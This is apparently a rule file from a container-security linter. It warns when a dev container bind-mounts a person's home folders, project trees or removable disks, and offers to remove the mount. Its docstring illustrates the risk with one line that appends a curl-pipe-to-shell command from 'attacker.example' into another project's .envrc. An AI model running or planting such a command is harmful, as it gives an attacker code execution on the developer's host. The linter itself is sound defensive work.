"""A folder with a person's files, or with all of their projects, is mounted.

## What it is

A bind mount of a folder of a home that holds more than this project: `~/projects`, `~/src`, `~/Documents`,
`~/Downloads`, `~/Desktop`, written with `~`, `$HOME`, `${localEnv:HOME}` or a user's name, or a disk that
is plugged in below `/media`, `/run/media` or `/Volumes`.

## Why it is bad

The other projects hold what runs on the host later: hooks of Git, build files, settings of editors. Code in this
container writes there, and waits.

    echo 'curl -s https://attacker.example/x | sh' >> /host/projects/other/.envrc

Documents and downloads are read by whatever runs inside: a dependency, or an agent that was told to. A disk that
is plugged in is a hint: a server of films has one on purpose.

## What to do instead

Mount the one folder that the program needs, read-only if it only reads: `~/projects/data:/data:ro`.

## Under gVisor

No difference: what you mount is outside the sandbox.

## References

- https://docs.docker.com/engine/storage/bind-mounts/#considerations-and-constraints
- https://git-scm.com/docs/githooks
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import Remedy, Remove, RuleMeta, Severity
from sandboxd.rules._finding import at_value
from sandboxd.rules._mounts import canonical, host_mounts, within_workspace
from sandboxd.rules._needs import Field

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="personal-folder-mounted",
    summary="a folder with a person's files, or with all of their projects, is mounted",
    severity=Severity.WARNING,
    since="0.2.0",
    why="what lies there belongs to other work, and some of it runs on the host later",
    needs=(Field("mounts"),),
)

_PROJECTS = "holds all projects, with hooks and build files that run on the host"
_FILES = "holds personal files"
# Below a home, in lower case. `tests/rules/lists/personal-folders.toml` says where each name is usual.
FOLDERS = {
    "code": _PROJECTS,
    "desktop": _FILES,
    "dev": _PROJECTS,
    "developer": _PROJECTS,
    "development": _PROJECTS,
    "documents": _FILES,
    "downloads": _FILES,
    "dropbox": _FILES,
    "git": _PROJECTS,
    "github": _PROJECTS,
    "go": "holds programs of Go that run on the host",
    "go/src": _PROJECTS,
    "ideaprojects": _PROJECTS,
    "movies": _FILES,
    "music": _FILES,
    "onedrive": _FILES,
    "pictures": _FILES,
    "projects": _PROJECTS,
    "repos": _PROJECTS,
    "source": _PROJECTS,
    "source/repos": _PROJECTS,
    "src": _PROJECTS,
    "videos": _FILES,
    "work": _PROJECTS,
    "workspace": _PROJECTS,
    "workspaces": _PROJECTS,
}
_DISKS = ("/media/", "/run/media/", "/Volumes/")


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for mount, path in host_mounts(subject, host):
        # How far the project's own surroundings are mounted is another rule's matter.
        if "localWorkspaceFolder" in mount.written or within_workspace(mount, path, subject):
            continue
        if subject.workspace is not None and path == canonical(subject.workspace, host.home):
            continue
        is_disk = path.startswith(_DISKS)
        content = "is on a disk that is plugged in" if is_disk else _content(path)
        if not content:
            continue
        only_read = mount.value.read_only
        is_hint = is_disk or (only_read and content != _FILES)
        how = "can be read" if only_read else "can be read and changed"
        yield at_value(
            META,
            mount,
            f"`{mount.written}` of the host {content}, which {how} from inside",
            path,
            Severity.HINT if is_hint else Severity.WARNING,
            remedies=(
                Remedy(
                    "remove the mount",
                    safe=False,
                    changes=(Remove(mount),),
                    caution=f"`{mount.value.target}` is empty inside the container",
                ),
            ),
        )


def _content(path: str) -> str:
    return FOLDERS.get(path[2:].lower(), "") if path.startswith("~/") else ""
